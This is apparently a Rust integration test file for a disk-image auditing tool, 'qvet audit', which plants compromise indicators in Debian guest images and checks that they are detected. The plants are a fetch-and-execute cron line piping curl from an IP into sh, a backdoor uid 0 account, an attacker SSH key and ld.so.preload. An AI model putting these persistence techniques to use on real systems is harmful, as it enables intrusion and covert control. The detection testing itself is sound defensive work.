//! `qvet audit` on real guests: a Debian root built at test time from this
//! machine's own packaged files and dpkg records (real md5sums, real
//! conffiles, merged /usr), made into an ext4 image with `mke2fs -d`; then
//! the same tree with plants (a binary patched in place with size, mode
//! and mtime kept, a second uid 0, an authorized key, fetch-and-execute
//! cron, ld.so.preload). Checked: exactly the planted findings, the
//! verdicts, policy suppression, reference mode naming exactly the planted
//! paths, SARIF against the 2.1.0 schema, exit codes, hostile guests under
//! timeouts.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

mod common;
#[path = "common/sarif.rs"]
mod sarif;

use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use common::*;
use serde_json::Value;

/// Host packages copied into the guest: small, all files readable, real
/// conffiles and setuid files (passwd, login).
const PACKAGES: &[&str] = &[
    "base-files",
    "bash",
    "coreutils",
    "dash",
    "grep",
    "sed",
    "passwd",
    "login",
];

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\nsync:x:4:65534:sync:/bin:/bin/sync\nnobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n";
const SHADOW: &str = "root:*:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\nbin:*:19700:0:99999:7:::\nsync:*:19700:0:99999:7:::\nnobody:*:19700:0:99999:7:::\n";
const GROUP: &str = "root:x:0:\ndaemon:x:1:\nbin:x:2:\nsudo:x:27:\nnogroup:x:65534:\n";
const KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl planted@evil";

/// qvet audit with the given deadline: any of audit's exit codes (0, 1,
/// 2), never a panic or a signal.
fn audit_run(args: &[&str], deadline: std::time::Duration) -> Run {
    let r = run_with(QVET, args, None, Stdout::Capture, deadline);
    assert!(
        !r.stderr.contains("panicked"),
        "qvet PANICKED\n{}",
        r.describe()
    );
    assert!(
        matches!(r.code(), Some(0..=2)),
        "unexpected exit\n{}",
        r.describe()
    );
    r
}

fn qv(args: &[&str]) -> Run {
    audit_run(args, ORACLE_TIMEOUT)
}

fn qv_hostile(args: &[&str]) -> Run {
    audit_run(args, HOSTILE_TIMEOUT)
}

fn dpkg_available() -> bool {
    Path::new("/var/lib/dpkg/status").is_file() && have_tool("mke2fs")
}

/// Builds the Debian-like root under `root`.
fn build_tree(root: &Path) {
    debian_root(root, PACKAGES);
    fs::write(root.join("etc/passwd"), PASSWD).unwrap();
    fs::write(root.join("etc/shadow"), SHADOW).unwrap();
    fs::write(root.join("etc/group"), GROUP).unwrap();
    fs::create_dir_all(root.join("root")).unwrap();
    fs::create_dir_all(root.join("tmp")).unwrap();
}

/// `mke2fs -d` of `root` into a whole-disk ext4 raw image, plus its qcow2.
fn make_image(s: &Scratch, name: &str, root: &Path) -> (String, String) {
    let raw = s.s(&format!("{name}.raw"));
    let mke2fs = find_tool("mke2fs").unwrap();
    run_ok(
        &mke2fs,
        &[
            "-q",
            "-F",
            "-t",
            "ext4",
            "-d",
            root.to_str().unwrap(),
            &raw,
            "96M",
        ],
    );
    let qcow2 = s.s(&format!("{name}.qcow2"));
    qemu_img(&["convert", "-f", "raw", "-O", "qcow2", &raw, &qcow2]);
    (raw, qcow2)
}

fn audit_json(args: &[&str]) -> (Option<i32>, Value) {
    let mut a = vec!["audit", "--output", "json"];
    a.extend_from_slice(args);
    let r = qv(&a);
    let v: Value =
        serde_json::from_str(&r.stdout_str()).unwrap_or_else(|e| panic!("{e}: {}", r.describe()));
    (r.code(), v)
}

fn set(items: &[(&str, &str)]) -> BTreeSet<(String, String)> {
    items
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect()
}

struct Guests {
    s: Scratch,
    clean: (String, String),
    patched: (String, String),
    planted: (String, String),
}

fn guests() -> Option<Guests> {
    if !dpkg_available() {
        eprintln!("SKIP: no dpkg database or mke2fs on this host");
        return None;
    }
    let s = Scratch::new("audit");
    let clean_root = s.path("clean");
    build_tree(&clean_root);
    let clean = make_image(&s, "clean", &clean_root);

    // The same tree with one binary patched in place: same size, mode, mtime.
    let patched_root = s.path("patched");
    run_ok(
        "cp",
        &[
            "-a",
            clean_root.to_str().unwrap(),
            patched_root.to_str().unwrap(),
        ],
    );
    let ls = patched_root.join("usr/bin/ls");
    let mtime = fs::metadata(&ls).unwrap().modified().unwrap();
    let mut bytes = fs::read(&ls).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0xff;
    fs::write(&ls, &bytes).unwrap();
    fs::File::options()
        .write(true)
        .open(&ls)
        .unwrap()
        .set_modified(mtime)
        .unwrap();
    let patched = make_image(&s, "changed-in-place", &patched_root);

    // Plants.
    let planted_root = s.path("planted");
    run_ok(
        "cp",
        &[
            "-a",
            clean_root.to_str().unwrap(),
            planted_root.to_str().unwrap(),
        ],
    );
    let r = &planted_root;
    fs::write(
        r.join("etc/passwd"),
        format!("{PASSWD}toor:x:0:0::/root:/bin/bash\n"),
    )
    .unwrap();
    fs::write(
        r.join("etc/shadow"),
        format!("{SHADOW}toor:$1$xyz$abcdefghijklmnopqrstu.:19700:0:99999:7:::\n"),
    )
    .unwrap();
    fs::create_dir_all(r.join("root/.ssh")).unwrap();
    fs::write(r.join("root/.ssh/authorized_keys"), format!("{KEY}\n")).unwrap();
    fs::create_dir_all(r.join("etc/cron.d")).unwrap();
    fs::write(
        r.join("etc/cron.d/update"),
        "*/10 * * * * root curl -fsSL http://198.51.100.23/u.sh | sh\n",
    )
    .unwrap();
    fs::write(r.join("etc/ld.so.preload"), "/usr/lib/libsysupd.so\n").unwrap();
    let planted = make_image(&s, "planted", &planted_root);
    Some(Guests {
        s,
        clean,
        patched,
        planted,
    })
}

#[test]
fn audit_of_real_debian_guests() {
    let Some(g) = guests() else { return };

    // Clean: real packaged files verify; nothing above info.
    for img in [&g.clean.0, &g.clean.1] {
        let (code, v) = audit_json(&[img]);
        assert_eq!(serious(&v), BTreeSet::new(), "clean guest {img}: {v:#}");
        assert_eq!(v[0]["verdict"], "unknown");
        assert_eq!(code, Some(0));
        let p = &v[0]["partitions"][0];
        assert_eq!(p["package_manager"], "dpkg");
        assert_eq!(p["packages"], PACKAGES.len());
        assert!(p["verified_files"].as_u64().unwrap() > 300, "{p}");
    }

    // Patched in place: exactly that finding, verdict tampered, exit 2.
    let (code, v) = audit_json(&[&g.patched.1]);
    assert_eq!(
        serious(&v),
        set(&[("package-file-modified", "/usr/bin/ls")]),
        "{v:#}"
    );
    assert_eq!(v[0]["verdict"], "tampered");
    assert_eq!(code, Some(2));
    let f = v[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "package-file-modified")
        .unwrap();
    assert_eq!(f["evidence"]["package"], "coreutils");
    assert_eq!(
        f["evidence"]["listed_as"], "/bin/ls",
        "merged /usr: coreutils lists /bin/ls"
    );

    // Plants: each rule, at its path.
    let (code, v) = audit_json(&[&g.planted.0]);
    let got = serious(&v);
    let want = set(&[
        ("account-uid0", "/etc/passwd"),
        ("account-weak-hash", "/etc/shadow"),
        ("ssh-authorized-key", "/root/.ssh/authorized_keys"),
        ("persist-ld-preload", "/etc/ld.so.preload"),
        ("persist-entry", "/etc/cron.d/update"),
        ("content-fetch-exec", "/etc/cron.d/update"),
        ("content-network-literal", "/etc/cron.d/update"),
    ]);
    let missing: Vec<_> = want.difference(&got).collect();
    assert!(missing.is_empty(), "missing {missing:?} in {got:?}");
    let extra: Vec<_> = got.difference(&want).collect();
    assert!(extra.is_empty(), "unexpected {extra:?}");
    assert_eq!(v[0]["verdict"], "tampered");
    assert_eq!(code, Some(2));
    let key = v[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "ssh-authorized-key")
        .unwrap();
    let fp = key["key"].as_str().unwrap().to_string();
    assert!(fp.starts_with("SHA256:"));
    assert_eq!(key["severity"], "high", "root's key");

    // Policy: the key and the account allowed, a rule suppressed on a path.
    let policy = g.s.path("policy.toml");
    fs::write(
        &policy,
        format!("[allow]\nusers = [\"toor\"]\nkeys = [\"{fp}\"]\n[[suppress]]\nrule = \"persist-ld-preload\"\npath = \"/etc/ld.so.*\"\nreason = \"test lab\"\n"),
    )
    .unwrap();
    let (_, v) = audit_json(&["--policy", policy.to_str().unwrap(), &g.planted.0]);
    let got = serious(&v);
    assert!(
        !got.iter().any(|(r, _)| r == "ssh-authorized-key"
            || r == "persist-ld-preload"
            || r == "account-uid0"),
        "{got:?}"
    );
    assert!(got.contains(&("content-fetch-exec".into(), "/etc/cron.d/update".into())));
    let sup: Vec<&Value> = v[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f.get("suppressed").is_some())
        .collect();
    assert!(sup.iter().any(|f| f["suppressed"] == "policy: test lab"));
    assert!(sup.iter().any(|f| f["rule"] == "ssh-authorized-key"));

    // Reference mode: every planted path carries its change; nothing else
    // above info but what the plants explain.
    let (_, v) = audit_json(&["--reference", &g.clean.1, &g.planted.1]);
    let changed: BTreeSet<String> = v[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f.get("change").is_some() && f["severity"] != "info")
        .map(|f| f["path"].as_str().unwrap().to_string())
        .collect();
    let planted_paths: BTreeSet<String> = [
        "/etc/passwd",
        "/etc/shadow",
        "/root/.ssh/authorized_keys",
        "/etc/cron.d/update",
        "/etc/ld.so.preload",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let others: Vec<&String> = changed
        .difference(&planted_paths)
        .filter(|p| !p.starts_with("/root/.ssh") && *p != "/etc/cron.d" && *p != "/root")
        .collect();
    assert!(planted_paths.is_subset(&changed), "{changed:?}");
    assert!(
        others.is_empty(),
        "reference mode named unplanted paths {others:?}"
    );

    // Reference mode on the patched binary.
    let (_, v) = audit_json(&["--reference", &g.clean.0, &g.patched.0]);
    let f = v[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "package-file-modified")
        .unwrap();
    assert_eq!(f["change"]["change"], "modified");

    // SARIF: valid 2.1.0 and what GitHub needs.
    let r = qv(&["audit", "--output", "sarif", &g.planted.1, &g.clean.1]);
    let doc: Value = serde_json::from_str(&r.stdout_str()).unwrap();
    sarif::validate_sarif(&doc).unwrap_or_else(|e| panic!("SARIF invalid: {e:#?}"));
    let problems = sarif::github_checks(&doc);
    assert!(problems.is_empty(), "{problems:#?}");
    assert!(doc["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .any(|x| x["ruleId"] == "persist-ld-preload" && x["level"] == "error"));

    // Human output: verdict first, then findings.
    let r = qv(&["audit", &g.planted.1]);
    let text = r.stdout_str();
    assert!(text.lines().next().unwrap().ends_with("TAMPERED"), "{text}");
    assert!(text.contains("account-uid0"));
    assert_eq!(r.code(), Some(2));
    // --fail-on critical still fails; never does not.
    assert_eq!(
        qv(&["audit", "--fail-on", "never", &g.planted.1]).code(),
        Some(0)
    );
    assert_eq!(
        qv(&["audit", "--fail-on", "critical", &g.patched.1]).code(),
        Some(2)
    );
}

#[test]
fn explain_documents_every_rule() {
    let r = qvet(&["audit", "--explain", "list"]);
    assert_success(&r);
    let ids: Vec<String> = r
        .stdout_str()
        .lines()
        .map(|l| l.split_whitespace().next().unwrap().to_string())
        .collect();
    assert!(ids.len() > 40, "{ids:?}");
    for id in [
        "account-uid0",
        "package-file-modified",
        "persist-ld-preload",
        "content-fetch-exec",
        "ssh-authorized-key",
    ] {
        assert!(ids.iter().any(|i| i == id), "{id}");
        let e = qvet(&["audit", "--explain", id]);
        assert_success(&e);
        assert!(e.stdout_str().starts_with(id));
    }
    let bad = qv(&["audit", "--explain", "no-such-rule"]);
    assert_eq!(bad.code(), Some(1));
}

#[test]
fn hostile_guests_are_bounded() {
    if !have_tool("mke2fs") {
        eprintln!("SKIP: no mke2fs");
        return;
    }
    let s = Scratch::new("audit-hostile");
    let root = s.path("root");
    fs::create_dir_all(root.join("etc/cron.d")).unwrap();
    fs::create_dir_all(root.join("var/lib/dpkg/info")).unwrap();
    // A passwd of a million lines, 20,000 cron files, a symlink loop, a
    // link pointing out of the guest, a dpkg status full of junk.
    let mut passwd = String::from("root:x:0:0:root:/root:/bin/bash\n");
    for i in 0..1_000_000u32 {
        passwd.push_str(&format!("u{i}:x:{}:100::/h:/bin/sh\n", 2000 + i));
    }
    fs::write(root.join("etc/passwd"), passwd).unwrap();
    for i in 0..20_000 {
        fs::write(
            root.join(format!("etc/cron.d/j{i}")),
            "* * * * * root true\n",
        )
        .unwrap();
    }
    symlink("/etc/loop", root.join("etc/loop")).unwrap();
    symlink("../../../../../../etc/passwd", root.join("etc/sshd_config")).unwrap();
    fs::create_dir_all(root.join("etc/ssh")).unwrap();
    symlink(
        "../../../../../../../../etc/ssh/sshd_config",
        root.join("etc/ssh/sshd_config"),
    )
    .unwrap();
    fs::write(root.join("var/lib/dpkg/status"), "Package: x\nStatus: install ok installed\nConffiles:\n /etc/loop zz\n\n\u{0}\u{ff}garbage\n").unwrap();
    fs::write(
        root.join("var/lib/dpkg/info/x.md5sums"),
        "not a line\n0123  \n",
    )
    .unwrap();
    let raw = s.s("hostile.raw");
    run_ok(
        &find_tool("mke2fs").unwrap(),
        &[
            "-q",
            "-F",
            "-t",
            "ext4",
            "-N",
            "30000",
            "-d",
            root.to_str().unwrap(),
            &raw,
            "160M",
        ],
    );
    let r = qv_hostile(&["audit", "--output", "json", &raw]);
    let v: Value =
        serde_json::from_str(&r.stdout_str()).unwrap_or_else(|e| panic!("{e}: {}", r.describe()));
    let not_read = v[0]["coverage"]["not_read"].to_string();
    assert!(
        not_read.contains("/etc/passwd"),
        "the oversized passwd is named in coverage: {not_read}"
    );
    assert!(
        not_read.contains("/etc/cron.d"),
        "the huge cron.d is named in coverage: {not_read}"
    );

    // An image that cannot be opened is reported; the others are still audited.
    let missing = s.s("no-such-image.qcow2");
    let r = qv_hostile(&["audit", "--output", "json", &missing, &raw]);
    let v: Value = serde_json::from_str(&r.stdout_str()).unwrap();
    assert_eq!(v.as_array().unwrap().len(), 2, "{v:#}");
    assert!(v
        .as_array()
        .unwrap()
        .iter()
        .any(|x| x["filename"] == missing.as_str() && x["error"].is_string()));
    assert!(v
        .as_array()
        .unwrap()
        .iter()
        .any(|x| x["verdict"].is_string()));
    assert_eq!(
        r.code(),
        Some(1),
        "an error and no finding at --fail-on: exit 1"
    );

    // Random bytes and a truncated qcow2: clear errors or findings, no panic.
    let junk = s.s("junk.img");
    let mut bytes = vec![0u8; 1 << 20];
    let mut x = 0x2545_f491_4f6c_dd1du64;
    for b in bytes.iter_mut() {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        *b = x as u8;
    }
    fs::write(&junk, &bytes).unwrap();
    let r = qv_hostile(&["audit", "-f", "raw", &junk]);
    assert!(matches!(r.code(), Some(0 | 2)), "{}", r.describe());
    let q = s.s("t.qcow2");
    qemu_img(&["convert", "-f", "raw", "-O", "qcow2", &raw, &q]);
    let len = fs::metadata(&q).unwrap().len();
    fs::File::options()
        .write(true)
        .open(&q)
        .unwrap()
        .set_len(len / 3)
        .unwrap();
    qv_hostile(&["audit", &q]);
}

/// All findings of one rule in a JSON report.
fn of_rule<'a>(v: &'a Value, rule: &str) -> Vec<&'a Value> {
    v[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == rule)
        .collect()
}

#[test]
fn identity_baselines_container_and_verdicts() {
    let Some(g) = guests() else { return };
    let cat = g.s.s("catalog.sqlite");

    // catalog add records digests, content root and the file-level baseline.
    let r = qv(&[
        "catalog",
        "--catalog",
        &cat,
        "add",
        "--label",
        "debian test original",
        "--output",
        "json",
        &g.clean.1,
    ]);
    assert_eq!(r.code(), Some(0), "{}", r.describe());
    let added: Value = serde_json::from_str(&r.stdout_str()).unwrap();
    assert!(added["baseline_files"].as_u64().unwrap() > 300, "{added}");
    let id = added["id"]
        .as_str()
        .map(str::to_string)
        .unwrap_or_else(|| added["id"].to_string());

    // The very file: genuine.
    let (code, v) = audit_json(&["--catalog", &cat, &g.clean.1]);
    assert_eq!(v[0]["verdict"], "genuine", "{v:#}");
    assert_eq!(of_rule(&v, "identity-genuine").len(), 1);
    assert_eq!(code, Some(0));

    // Re-converted with another cluster size: same guest, other container.
    let repack = g.s.s("repack.qcow2");
    qemu_img(&[
        "convert",
        "-O",
        "qcow2",
        "-o",
        "cluster_size=4096",
        &g.clean.1,
        &repack,
    ]);
    let (_, v) = audit_json(&["--catalog", &cat, &repack]);
    assert_eq!(v[0]["verdict"], "repack-container", "{v:#}");
    assert_eq!(of_rule(&v, "identity-content-identical").len(), 1);
    let fp = &of_rule(&v, "container-fingerprint")[0]["evidence"];
    assert_eq!(fp["cluster_size"], "4096");

    // Export the baseline, audit the planted image against the file.
    let base = g.s.s("baseline.json");
    let r = qv(&[
        "catalog",
        "--catalog",
        &cat,
        "export-baseline",
        &id,
        "-o",
        &base,
    ]);
    assert_eq!(r.code(), Some(0), "{}", r.describe());
    let doc: Value = serde_json::from_str(&fs::read_to_string(&base).unwrap()).unwrap();
    assert_eq!(doc["schema"], "qvet-baseline-v1");
    let (_, v) = audit_json(&["--baseline", &base, &g.planted.0]);
    let changed: BTreeSet<String> = v[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f.get("change").is_some() && f["severity"] != "info")
        .map(|f| f["path"].as_str().unwrap().to_string())
        .collect();
    for p in [
        "/etc/passwd",
        "/etc/shadow",
        "/root/.ssh/authorized_keys",
        "/etc/cron.d/update",
        "/etc/ld.so.preload",
    ] {
        assert!(changed.contains(p), "{p} not in {changed:?}");
    }
    let unexpected: Vec<&String> = changed
        .iter()
        .filter(|p| {
            ![
                "/etc/passwd",
                "/etc/shadow",
                "/root/.ssh/authorized_keys",
                "/etc/cron.d/update",
                "/etc/ld.so.preload",
                "/root/.ssh",
                "/etc/cron.d",
            ]
            .contains(&p.as_str())
        })
        .collect();
    assert!(
        unexpected.is_empty(),
        "baseline mode named unplanted paths {unexpected:?}"
    );

    // Imported into another catalog, the baseline is found by entry ID.
    let cat2 = g.s.s("catalog2.sqlite");
    let r = qv(&[
        "catalog",
        "--catalog",
        &cat2,
        "import",
        "--output",
        "json",
        &base,
    ]);
    assert_eq!(r.code(), Some(0), "{}", r.describe());
    let imp: Value = serde_json::from_str(&r.stdout_str()).unwrap();
    let id2 = imp["entry"].to_string();
    let (_, v) = audit_json(&["--catalog", &cat2, "--baseline", &id2, &g.patched.1]);
    let f = of_rule(&v, "package-file-modified");
    assert_eq!(f.len(), 1);
    assert_eq!(f[0]["change"]["change"], "modified");

    // Without --baseline: the image's name claims the catalog entry, the
    // digests differ, and that entry's baseline is used.
    let claim_dir = g.s.path("claim");
    fs::create_dir_all(&claim_dir).unwrap();
    let claimed = claim_dir.join(Path::new(&g.clean.1).file_name().unwrap());
    fs::copy(&g.planted.1, &claimed).unwrap();
    let (_, v) = audit_json(&["--catalog", &cat, claimed.to_str().unwrap()]);
    assert_eq!(of_rule(&v, "identity-mismatch").len(), 1, "{v:#}");
    assert!(
        v[0]["coverage"]["read"].to_string().contains("baseline"),
        "{v:#}"
    );
    assert!(of_rule(&v, "persist-ld-preload")[0].get("change").is_some());

    // A benign change only: modified.
    let benign_root = g.s.path("benign");
    run_ok(
        "cp",
        &[
            "-a",
            g.s.path("clean").to_str().unwrap(),
            benign_root.to_str().unwrap(),
        ],
    );
    fs::write(benign_root.join("etc/motd.lab"), "welcome to the lab\n").unwrap();
    let benign = make_image(&g.s, "benign", &benign_root);
    let (code, v) = audit_json(&["--baseline", &base, &benign.1]);
    assert_eq!(v[0]["verdict"], "modified", "{v:#}");
    assert_eq!(serious(&v), set(&[("reference-change", "/etc/motd.lab")]));
    assert_eq!(code, Some(0));

    // Container and filesystem provenance: a snapshot, a foreign last-mounted path.
    let prov = g.s.s("prov.qcow2");
    fs::copy(&g.clean.1, &prov).unwrap();
    qemu_img(&["snapshot", "-c", "before-lab", &prov]);
    let raw = g.s.s("prov.raw");
    fs::copy(&g.clean.0, &raw).unwrap();
    run_ok(&find_tool("tune2fs").unwrap(), &["-M", "/mnt/edit", &raw]);
    let (_, v) = audit_json(&[&prov]);
    let snap = of_rule(&v, "container-snapshot");
    assert_eq!(snap.len(), 1);
    assert!(snap[0]["title"].as_str().unwrap().contains("before-lab"));
    let (_, v) = audit_json(&[&raw]);
    let m = of_rule(&v, "fs-mount-history");
    assert_eq!(m[0]["severity"], "low", "{m:?}");
    assert_eq!(m[0]["evidence"]["last_mounted"], "/mnt/edit");
    let (_, v) = audit_json(&[&g.clean.0]);
    assert_eq!(of_rule(&v, "fs-mount-history")[0]["severity"], "info");
    assert!(of_rule(&v, "setid-capability").is_empty());

    // File capabilities, set with debugfs as setcap would: cap_setuid on a
    // packaged shell (medium: dpkg cannot vouch for it), cap_net_raw on a
    // packaged tool (info), cap_setuid on an unowned file (high).
    let caps = g.s.s("caps.raw");
    fs::copy(&g.clean.0, &caps).unwrap();
    let debugfs = find_tool("debugfs").unwrap();
    let cap_file = |name: &str, low: u8| {
        let f = g.s.path(name);
        fs::write(
            &f,
            [
                1,
                0,
                0,
                2,
                low,
                if low == 0 { 0x20 } else { 0 },
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
                0,
            ],
        )
        .unwrap();
        f.to_str().unwrap().to_string()
    };
    let setuid_cap = cap_file("cap-setuid", 0x80);
    let net_raw = cap_file("cap-net-raw", 0);
    run_ok(
        &debugfs,
        &[
            "-w",
            "-R",
            &format!("ea_set -f {setuid_cap} /usr/bin/dash security.capability"),
            &caps,
        ],
    );
    run_ok(
        &debugfs,
        &[
            "-w",
            "-R",
            &format!("ea_set -f {net_raw} /usr/bin/cat security.capability"),
            &caps,
        ],
    );
    run_ok(
        &debugfs,
        &["-w", "-R", "write /dev/null /usr/bin/helper", &caps],
    );
    run_ok(
        &debugfs,
        &[
            "-w",
            "-R",
            &format!("ea_set -f {setuid_cap} /usr/bin/helper security.capability"),
            &caps,
        ],
    );
    let (_, v) = audit_json(&[&caps]);
    let by_path = |p: &str| {
        of_rule(&v, "setid-capability")
            .into_iter()
            .find(|f| f["path"] == p)
            .map(|f| f["severity"].clone())
    };
    assert_eq!(
        by_path("/usr/bin/dash"),
        Some(Value::from("medium")),
        "{v:#}"
    );
    assert_eq!(by_path("/usr/bin/cat"), Some(Value::from("info")));
    assert_eq!(by_path("/usr/bin/helper"), Some(Value::from("high")));
}
